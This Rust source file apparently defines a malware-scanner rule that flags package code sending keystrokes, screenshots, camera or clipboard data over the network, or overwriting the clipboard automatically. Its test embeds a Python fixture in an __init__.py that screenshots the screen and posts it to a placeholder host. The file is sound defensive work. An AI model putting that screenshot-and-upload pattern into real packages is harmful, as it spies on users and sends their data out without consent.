use apa_model::{Confidence, Severity};

use super::{Hit, Rule, RuleInfo, carried, is_local, leaves, peer, proof};
use crate::act::ActKind;
use crate::flow::Source;
use crate::package::Package;

pub(crate) struct CodeSpies;

static INFO: RuleInfo = RuleInfo {
    id: "code-spies",
    title: "Code watches keys, screen or clipboard",
    severity: Severity::High,
    confidence: Confidence::High,
    attack: &["T1056.001", "T1113", "T1115"],
    explanation: "Key strokes, the screen, the camera or the clipboard flow into something that leaves; or the \
                  clipboard is overwritten by code that reads it as well and runs by itself.",
};

impl Rule for CodeSpies {
    fn info(&self) -> &'static RuleInfo {
        &INFO
    }

    fn hits(&self, package: &Package) -> Vec<Hit> {
        const SPIED: &[Source] = &[Source::Spied, Source::Clipboard];
        let mut hits = Vec::new();
        for act in package.acts() {
            let when = package.when(act);
            let confidence = match when.by_itself() {
                true => Confidence::High,
                false => Confidence::Medium,
            };
            let spied = SPIED.iter().any(|source| act.taints.has(*source));
            if leaves(act) && spied && !is_local(&act.text) {
                let clause = format!(
                    "sends {} to {} {}",
                    carried(act, SPIED),
                    peer(act),
                    when.words()
                );
                hits.push(Hit::new(Severity::High, confidence, clause).with(proof(
                    package,
                    act,
                    "sent here",
                    SPIED,
                )));
            } else if act.kind == ActKind::ClipboardWrite && when.by_itself() {
                let clause = format!("overwrites the clipboard {}", when.words());
                hits.push(
                    Hit::new(Severity::High, Confidence::Medium, clause)
                        .with([package.evidence(act, "here")]),
                );
            }
        }
        hits
    }
}

#[cfg(test)]
mod tests {
    use super::super::testing::{found, line, quiet};
    use super::*;

    #[test]
    fn a_screenshot_that_is_posted_is_found_and_a_recorder_is_not() {
        let finding = found(
            "code-spies",
            &[(
                "a/__init__.py",
                "import pyautogui, requests\ni = pyautogui.screenshot()\nrequests.post('https://c.test', files={'f': i})",
            )],
        );
        assert_eq!((finding.severity, line(&finding).1), (Severity::High, 3));
        quiet(
            "code-spies",
            &[(
                "a/__init__.py",
                "import pyautogui\ndef shot(path):\n    pyautogui.screenshot().save(path)",
            )],
        );
    }
}
